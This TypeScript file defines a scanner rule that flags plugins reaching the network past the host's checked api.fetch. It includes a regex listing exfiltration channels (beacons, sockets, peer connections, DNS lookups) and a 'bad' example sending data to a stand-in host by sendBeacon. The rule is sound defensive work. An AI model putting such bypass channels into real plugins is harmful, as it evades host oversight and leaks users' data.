import { defineRule } from '../rule.ts';
import { isPlugin, textValue } from './helpers.ts';

const CHANNELS =
  /^(?:navigator\.sendBeacon|RTCPeerConnection|WebTransport|dns(?:\.promises)?\.(?:resolve\w*|lookup)|dgram\.createSocket|net\.(?:connect|createConnection)|WebSocket|EventSource|XMLHttpRequest|open)$/;

export const sideChannel = defineRule({
  id: 'side-channel',
  severity: 'medium',
  threat: 'exfiltration',
  title: 'A plugin talks past the host',
  why: 'A plugin reaches the network by api.fetch, where the host checks it. Beacons, sockets, peer connections and name look-ups go round that check.',
  fix: 'Use api.fetch with a declared origin.',
  example: {
    bad: 'import { definePlugin } from "@guildhall/plugin-sdk"; navigator.sendBeacon("https://collect.example", "x");',
    good: 'import { definePlugin } from "@guildhall/plugin-sdk"; export const run = ({ api }) => api.fetch("https://rates.example/today");',
  },
  cwe: 923,
  visit: {
    named: (call, context) => {
      const name = call.names.find((candidate) => CHANNELS.test(candidate));
      if (!name || !isPlugin(context)) return;
      if (name === 'open' && textValue(call.args[0], context) !== null) return;
      context.report(call.node, {
        severity: /RTC|dns|dgram|net\.|WebTransport/.test(name) ? 'high' : 'medium',
        message: `${name} reaches the network without the host.`,
      });
    },
  },
});
